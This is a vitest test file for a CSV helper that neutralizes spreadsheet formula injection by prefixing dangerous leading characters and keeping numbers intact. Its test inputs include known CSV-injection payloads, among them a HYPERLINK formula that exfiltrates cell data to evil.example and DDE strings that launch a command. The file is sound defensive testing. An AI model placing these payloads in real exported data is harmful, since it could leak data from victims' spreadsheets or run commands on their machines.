import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import { neutralizeCell, stringifyCsv } from "@/lib/csv";

// OWASP "CSV Injection": no cell Sally writes may begin with = + - @ TAB CR LF, since a spreadsheet
// would run it as a formula. A leading ' makes it text. A plain number is not a formula: it stays.
describe("CSV cells are never live formulas", () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?"&A1,"Click")', `'=HYPERLINK("http://evil.example/?"&A1,"Click")`],
    ["+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"],
    ["-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"],
    ["@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"],
    ["\t=1+2", "'\t=1+2"],
    ["\r=1+2", "'\r=1+2"],
    ["\n=1+2", "'\n=1+2"],
    ["-- not a number", "'-- not a number"],
    ["-", "'-"],
    ["+", "'+"],
  ])("prefixes %j", (raw, safe) => {
    expect(neutralizeCell(raw)).toBe(safe);
  });

  it.each(["-3", "+3", "-0.25", "-1e-7", "3", "", "a=b", " =1+2", "'=already text", "plain text", "ünïcode"])("leaves %j as it is", (raw) => {
    expect(neutralizeCell(raw)).toBe(raw);
  });

  it("writes RFC 4180 rows whose cells read back neutralized, numbers untouched", () => {
    const csv = stringifyCsv([
      ["id", "label", "duration_ms", "comment"],
      ["=1+2", "-3", -3, 'He said "=1+2";,=1+2'],
      ["@x", null, 12.5, "line one\nline two"],
    ]);
    const back = parse(csv) as string[][];
    expect(back).toEqual([
      ["id", "label", "duration_ms", "comment"],
      ["'=1+2", "-3", "-3", 'He said "=1+2";,=1+2'],
      ["'@x", "", "12.5", "line one\nline two"],
    ]);
    // OWASP's own example: the separator and quotes inside a cell cannot start a new, live cell
    expect(stringifyCsv([['=1+2";=1+2']])).toBe(`"'=1+2"";=1+2"\n`);
  });
});
